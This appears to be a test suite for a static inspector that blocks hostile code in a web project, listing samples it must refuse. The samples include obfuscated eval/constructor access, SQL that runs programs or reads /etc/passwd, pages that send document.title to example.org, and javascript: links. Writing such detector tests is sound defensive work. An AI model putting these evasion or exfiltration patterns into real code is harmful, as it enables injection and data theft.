// biome-ignore-all lint/suspicious/noTemplateCurlyInString: it is code to be inspected.
import assert from 'node:assert/strict';
import { clientTest, goodFiles, inspect, inspectAdded, screen, server, serverTest, shared } from './small-project.ts';

type Cases = readonly (readonly [path: string, code: string, said: RegExp])[];

function refuses(cases: Cases): void {
  for (const [path, code, said] of cases) {
    it(code.length > 100 ? `${code.slice(0, 100)}…` : code, () => {
      const problems = inspectAdded(path, code);
      assert.ok(
        problems.some((problem) => said.test(problem.message) && problem.path === path),
        JSON.stringify(problems),
      );
    });
  }
}

function accepts(cases: readonly (readonly [path: string, code: string])[]): void {
  for (const [path, code] of cases) it(`but not ${code}`, () => assert.deepEqual(inspectAdded(path, code), []));
}

describe('Inspection of a slice that means harm', () => {
  describe('finds names that are put together:', () => {
    refuses([
      [server, "const k = 'con' + 'structor'; export const f = (() => {})[k]('return process')();", /"constructor"/],
      [server, "const k = ['con', 'structor'].join(''); export const f = (() => {})[k]('1');", /"constructor"/],
      [server, "export const f = (() => {})[`con${'structor'}`]('1');", /"constructor"/],
      [server, "const con = 'con', b = `${con}struc`; export const f = (() => {})[b + 'tor']('1');", /"constructor"/],
      [server, "const { ['con' + 'structor']: make } = () => {};", /"constructor"/],
      [server, "export const f = Reflect.get(() => {}, 'con'.concat('structor'));", /"constructor"/],
      [server, "export const f = (() => {}).\\u0063onstructor('1');", /"constructor"/],
      [server, "\\u0065val('1');", /"eval"/],
      [server, 'export const x = pro\\u0063ess.env;', /"process"/],
      [screen, "navigator['send' + 'Beacon']('/x');", /"sendBeacon"/],
      [screen, "document['wri' + 'te']('x');", /"document\.write"/],
      [screen, "const t = ['alert', '(1)'].join(''); setTimeout(t as never, 1);", /given text/],
      [screen, "const host = 'https:'; void request(`${host}//example.org`);", /address that begins/],
    ]);
    accepts([
      [server, "const part = 'con'; export const label = `${part}tact`;"],
      [server, "const rows: Record<string, number> = {}; const key = ['a', 'b'].join('-'); rows[key] = 1;"],
    ]);
    it('without taking long, however they are put together', () => {
      const names = Array.from({ length: 2000 }, (_, n) => `const a${n + 1} = a${n} + a${n};`).join('\n');
      const start = performance.now();
      inspectAdded(server, `const a0 = 'xxxxxxxx';\n${names}`);
      assert.ok(performance.now() - start < 4000);
    });
  });

  describe('finds ways around names:', () => {
    refuses([
      [server, 'Object.getOwnPropertyDescriptors(Object.getPrototypeOf(() => {}));', /"Object\.getOwn/],
      [server, 'export const f = new (class extends Object.getPrototypeOf(async () => {}) {})();', /"Object\.get/],
      [server, 'Object.assign(Object.getPrototypeOf({}), { isAdmin: true });', /"Object\.getPrototypeOf"/],
      [server, "Object.defineProperty({}, 'then', { value: 1 });", /"Object\.defineProperty"/],
      [server, "Object['getPrototype' + 'Of']({});", /"Object"/],
      [server, 'const { getPrototypeOf } = Object;', /"Object"/],
      [server, 'Error.prepareStackTrace = (_, frames) => frames[0].getThis();', /"prepareStackTrace"/],
      [screen, 'document.defaultView?.alert(1);', /"document\.defaultView"|"defaultView"/],
      [screen, 'export const go = (e: Event) => e.target.ownerDocument.defaultView;', /"defaultView"/],
      [screen, "export const go = (e: UIEvent) => e.view.eval('1');", /"eval"/],
      [screen, "export const go = (e: UIEvent) => e.view.fetch('https://example.org');", /"fetch"/],
      [screen, "const d = document; d.write('x');", /"document" may only be used/],
      [screen, 'const { cookie } = document;', /"document" may only be used/],
      [server, 'export const f = (c: Context) => c.env.incoming.socket;', /"env"/],
      [server, 'export const f = (db: Database) => db.$client;', /"\$client"/],
      [server, 'export const q = (name: string) => sql.raw(name);', /"raw"/],
      [server, "export const q = (name: string) => sql['raw'](`drop table ${name}`);", /"raw"/],
      [server, "import { sql as s } from 'drizzle-orm';", /by its own name/],
      [server, 'export const q = (name: string) => db.execute(`drop table ${name}`);', /"execute"/],
      [server, "import data from 'hono' with { type: 'json' };", /no attributes/],
      [server, "import { serveStatic } from 'hono/serve-static';", /may not import/],
      [server, "import { toSSG } from 'hono/ssg';", /may not import/],
      [server, "import { env } from 'hono/adapter';", /may not import/],
      [server, "import { jwk } from 'hono/jwk';", /may not import/],
      [server, "import { raw } from 'hono/html';", /may not import/],
      [server, "import { cors } from 'hono/cors';", /may not import/],
      [serverTest, "import { testClient } from 'hono/testing';", /may not import/],
      [server, "import { setCookie } from 'hono/cookie';", /may not import/],
      [server, "import { sign } from 'hono/jwt';", /may not import/],
      [server, "import { getContext } from 'hono/context-storage';", /may not import/],
    ]);
    accepts([
      [server, 'export const sums = Object.entries({ a: 1 }).map(([name, value]) => name + value);'],
      [server, "import { HTTPException } from 'hono/http-exception';\nexport const no = () => new HTTPException(404);"],
      [screen, 'export const title = () => document.title;'],
    ]);
  });

  describe('finds SQL that is put together from text or that leads out of the database:', () => {
    const sql = "import { sql } from 'drizzle-orm';\n";
    refuses([
      [server, `${sql}export const q = sql.raw("copy (select 1) to program 'id'");`, /"raw" may not be used/],
      [server, `${sql}export const order = sql.raw('desc');`, /"raw" may not be used/],
      [server, `${sql}export const order = sql['raw']('desc');`, /"raw" may not be used/],
      [server, `${sql}export const order = sql['r' + 'aw']('desc');`, /"raw" may not be used/],
      [server, `${sql}export const order = sql?.raw?.('desc');`, /"raw" may not be used/],
      [server, `${sql}export const { raw } = sql;`, /"raw" may not be taken/],
      [server, `${sql}const s = sql; export const q = s.raw('x');`, /"raw" may not be used/],
      [server, `${sql}const s = sql; export const q = s[String(name)]('x');`, /"sql" may only be used/],
      [server, `${sql}export const q = Reflect.get(sql, 'raw');`, /"raw" may not be used/],
      [server, `${sql}export const q = sql(Object.assign(['drop'], { raw: [] }));`, /"sql" may only be used/],
      [server, `${sql}export { sql as s };`, /"sql" may only be used/],
      [server, `${sql}export const q = sql.identifier('x"');`, /"sql" may only be used/],
      [server, "export * from 'drizzle-orm';", /not passed on/],
      [server, "import * as d from 'drizzle-orm';\nexport const q = d.sql.raw('x');", /by name/],
      [server, "import { SQL, StringChunk } from 'drizzle-orm';", /"StringChunk" of "drizzle-orm" may not be imported/],
      [
        server,
        'export const q = (db: D) => db.query.a.findMany({ where: (_, ops) => ops.sql.raw(1) });',
        /Import "sql"/,
      ],
      [server, "export const q = find({ where: (_, { sql: s }) => s.raw('x') });", /"sql" may not be taken/],
      [server, 'export const q = sql`1`.queryChunks;', /"queryChunks"/],
      [server, "export const q = (db: D) => db.execute('select 1');", /"execute" may not be used/],
      [server, 'export const q = (db: D, text: string) => db.execute?.(text);', /"execute" may not be used/],
      [server, 'export const q = (db: D) => db.execute.bind(db);', /"execute" may not be used/],
      [server, 'export const { execute } = db;', /"execute" may not be taken/],
      [server, 'export const q = (db: D) => db.execute(sql`vacuum`);', /"execute" may not be used/],
      [server, 'export const q = (db: D) => db.session.client;', /"session" may not be used/],
      [server, "export const q = sql`copy (select 1) to program 'id'`;", /"copy" may not be used in SQL/],
      [server, 'export const q = sql`COPY ${posts}\n from\tprogram ${x}`;', /may not be used in SQL/],
      [server, "export const q = sql<string>`pg_read_file('/etc/passwd')`;", /"pg_read_file"/],
      [server, 'export const q = sql`"pg_read_file"(${x})`;', /"pg_read_file"/],
      [server, 'export const q = sql`select lo_import(${x})`;', /"lo_import"/],
      [server, 'export const q = sql`select * from dblink(${x})`;', /"dblink"/],
      [server, 'export const q = sql`create extension dblink_x`;', /may not be used in SQL/],
      [server, 'export const q = sql`create or replace function f() returns int`;', /"create" may not be used/],
      [server, 'export const q = sql`alter  system set x = 1`;', /"alter" may not be used/],
      [server, 'export const q = sql`do $$ begin end $$`;', /"do" may not be used/],
      [server, 'export const q = sql`select 1; select 2`;', /only hold one statement/],
      [server, 'export const q = sql`pg_/**/read_file(${x})`;', /"pg_" may not/],
      [server, 'export const q = sql`${sql`pg_read`}${sql`_file(1)`}`;', /stand apart/],
      [server, 'export const q = sql`pg_${sql`read_file(1)`}`;', /"pg_" may not/],
      [server, 'export const q = sql.join([sql`pg_read`, sql`_file(1)`]);', /separator/],
      [server, 'export const q = sql`pg_read`.append(sql`_file(1)`);', /"append"/],
      [server, "export const q = sql`x = '${name}'`;", /stand in quotes/],
      [server, "export const q = sql`x = '`;", /stand in quotes/],
      [server, "export const q = sql`e'\\\\x'`;", /plain quotes/],
      [shared, "export const pick = (x: { raw(text: string): void }) => x.raw('x');", /"raw" may not be used/],
    ]);
    accepts([
      [server, `${sql}export const label = sql<string>\`concat_ws(' ', \${posts}, \${shared})\`.as('label');`],
      [server, `${sql}export const month = sql\`to_char(\${posts}, 'YYYY-MM; -- it''s')\`;`],
      [server, `${sql}export const sum = sql<number>\`coalesce(sum(\${posts}), 0)::int\`.mapWith(Number);`],
      [server, `${sql}export const share = sql\`\${posts} ->> 'copy' || \${shared}\`;`],
      [server, `${sql}export const all = sql.join([sql\`1\`, sql\`2\`], sql\`, \`);`],
      [server, `${sql}export const open = sql\`count(*) filter (where \${posts} in ('to-do', 'copy to me'))\`;`],
      [server, "import { type SQL } from 'drizzle-orm';\nexport type Where = SQL | undefined;"],
      [server, 'export const path = String.raw`a\\b`;'],
      [screen, 'export const q = (row: { raw: string }) => row.raw;'],
    ]);
  });

  describe('finds pages that send away what they show:', () => {
    refuses([
      [screen, "const props = { dangerouslySetInnerHTML: { __html: 'x' } };", /"dangerouslySetInnerHTML"/],
      [
        screen,
        "export const X = () => <p {...{ ['dangerously' + 'SetInnerHTML']: x }} />;",
        /"dangerouslySetInnerHTML"/,
      ],
      [screen, 'const Tag = \'script\'; export const X = () => <Tag src="/x.js" />;', /<script>/],
      [screen, "import { createElement } from 'react';\ncreateElement('ifr' + 'ame', { src: '/x' });", /<iframe>/],
      [screen, "import { createElement as h } from 'react';", /by its own name/],
      [screen, 'export const X = () => <link rel="stylesheet" href="https://example.org/x.css" />;', /<link>/],
      [screen, 'export const X = () => <meta httpEquiv="refresh" content="0;url=https://example.org" />;', /<meta>/],
      [screen, "const u = 'java' + 'script:alert(1)'; export const X = () => <a href={u}>x</a>;", /may not hold code/],
      [screen, "export const X = () => <a href={'java\\nscript:alert(1)'}>x</a>;", /may not hold code/],
      [screen, 'export const X = () => <img src={`https://example.org/?d=${document.title}`} />;', /"src"/],
      [screen, "const host = 'https://example.org/'; export const X = (d: string) => <img src={host + d} />;", /"src"/],
      [screen, 'export const X = () => <img src="//example.org/pixel.gif" />;', /"src"/],
      [screen, 'export const X = () => <img src="/\\\\example.org/pixel.gif" />;', /"src"/],
      [screen, 'export const X = () => <svg><image href="https://example.org/x" /></svg>;', /"href"/],
      [screen, 'export const X = () => <video poster="https://example.org/x" />;', /"poster"/],
      [screen, 'export const X = () => <form action="https://example.org" />;', /"action"/],
      [screen, 'export const X = () => <button formAction="https://example.org">x</button>;', /"formAction"/],
      [screen, 'export const X = () => <a href="/x" ping="/y">x</a>;', /"ping"/],
      [
        screen,
        'export const X = (d: string) => <p style={{ background: `url(https://example.org/${d})` }} />;',
        /Styles/,
      ],
      [screen, 'export const X = () => <style>{\'@import "https://example.org"\'}</style>;', /Styles/],
      [screen, "window.location.href = 'https://example.org/?' + document.title;", /Pages may not leave/],
      [screen, 'window.location.assign(`https://example.org/${document.title}`);', /Pages may not leave/],
      [screen, "location = 'https://example.org';", /Pages may not leave/],
      [screen, "window.location['hr' + 'ef'] = 'https://example.org';", /Pages may not leave/],
      [screen, "window.location.replace?.('//example.org');", /Pages may not leave/],
      [screen, 'export const go = (url: string) => { window.location.href = url; };', /Pages may not leave/],
      [screen, 'export const go = (url: string) => window.location.assign(`/${url}`);', /Pages may not leave/],
      [screen, "export const go = (url: string) => location.replace('/\\t' + url);", /Pages may not leave/],
      [screen, 'export const go = (url: string) => { window.location.host = url; };', /Pages may not leave/],
      [screen, "window.location.href += '/x';", /Pages may not leave/],
      [screen, 'export const go = (url: string) => { [window.location.href] = [url]; };', /may not be used like this/],
      [
        screen,
        'export const go = (a: string) => { ({ a: window.location.href } = { a }); };',
        /may not be used like this/,
      ],
      [
        screen,
        'export const go = (a: string) => { ({ b: [location.href = a] } = { b: [] }); };',
        /may not be used like/,
      ],
      [screen, 'export const go = (url: string) => { location.href! = url; };', /may not be used like this/],
      [
        screen,
        'export const go = (url: string) => { for (location.href of [url]) break; };',
        /may not be used like this/,
      ],
      [screen, 'export const place = window.location;', /"location" may only be used/],
      [screen, 'const { assign } = location;', /"location" may only be used/],
      [screen, 'export const go = location.assign;', /may only be called/],
      [screen, "Reflect.get(location, 'assign');", /"location" may only be used/],
      [screen, "Object.assign(location, { href: 'https://example.org' });", /"location" may only be used/],
      [screen, "window.navigation.navigate('https://example.org');", /"navigation"/],
      [screen, 'window.open(`https://example.org/${document.title}`);', /"open"/],
      [screen, "window.open('https://example.org/help');", /"open" may only be called/],
      [screen, "window.open?.('//example.org');", /"open" may only be called/],
      [screen, 'export const show = (url: string) => open(url);', /"open" may only be called/],
      [screen, 'export const show = window.open;', /"open" may only be called/],
      [screen, "const a = document.createElement('a'); a.href = 'https://example.org/?' + document.title;", /"href"/],
      [screen, "new Image().src = 'https://example.org';", /"Image"/],
      [screen, "const i = document.createElement('img'); i.src = 'https://example.org/?';", /"src"/],
      [screen, "const i = document.createElement('scr' + 'ipt');", /<script>/],
      [screen, "document.body.setAttribute('onclick', 'alert(1)');", /"setAttribute"/],
    ]);
    accepts([
      [screen, 'export const X = ({ url }: { url: string }) => <img src={url} alt="" />;'],
      [screen, 'export const X = () => <img src="/images/sample-1.svg" alt="" />;'],
      [screen, 'export const X = ({ phone }: { phone: string }) => <a href={`tel:${phone}`}>Call</a>;'],
      [screen, 'export const X = ({ share }: { share: number }) => <p style={{ width: `${share}%` }} />;'],
      [screen, 'export const X = ({ save }: { save: () => void }) => <form action={save} />;'],
      [screen, "export const print = () => window.open('/api/export/print', '_blank', 'noopener');"],
      [screen, 'export const find = (text: string) => { window.location.search = `?q=${text}`; };'],
      [screen, 'export const here = () => new URL(window.location.href).searchParams;'],
      [screen, 'export const state = () => ({ from: window.location.pathname, list: [window.location.hash] });'],
      [screen, 'export const again = () => window.location.reload();'],
      [screen, 'export const X = (location: { href: string }, open: (x: unknown) => void) => open(location);'],
      [screen, "const a = document.createElement('a'); a.href = URL.createObjectURL(new Blob(['x']));"],
      [screen, 'export const download = (id: number) => window.location.assign(`/api/export/${id}`);'],
    ]);
  });

  describe('finds tests that reach further or cannot fail:', () => {
    refuses([
      [clientTest, "vi['mock']('node:fs');", /"importActual"|"vi"|only be given/],
      [clientTest, "vi['import' + 'Actual']('node:fs');", /"importActual"|"vi" may only/],
      [clientTest, 'const { mock } = vi;', /"vi" may only be used/],
      [clientTest, "vi.mock('../../../../../../etc/passwd');", /module of this project/],
      [serverTest, "import { vi as v } from 'vitest';", /Import from "vitest" by name/],
      [serverTest, "import * as v from 'vitest';", /Import from "vitest" by name/],
      [serverTest, "import { inject } from 'vitest';", /Import from "vitest" by name/],
      [clientTest, "const t = it; t.skip('x', () => {});", /"it" may only be used/],
      [clientTest, "it('x', { fails: true }, () => { expect(f()).toBe(1); });", /"fails" leaves tests out/],
      [clientTest, "it('x', () => { expect(Screen()).toMatchFileSnapshot('../../x'); });", /"toMatchFileSnapshot"/],
    ]);
    accepts([
      [clientTest, "it('x', () => { expect(/a/.test(String(Screen()))).toBe(true); });"],
      [clientTest, "it('x', { timeout: 5000 }, () => { document.dispatchEvent(new Event('x')); render(document); });"],
    ]);
  });

  it('finds text that is hidden from people', () => {
    const said = (code: string) => inspect({ [server]: `${goodFiles[server]}${code}\n` })[0]?.message ?? '';
    assert.match(said('// \u202e nothing'), /direction of text/);
    assert.match(said(`// nothing${' '.repeat(300)}export const x = 1;`), /far to the right/);
  });
});
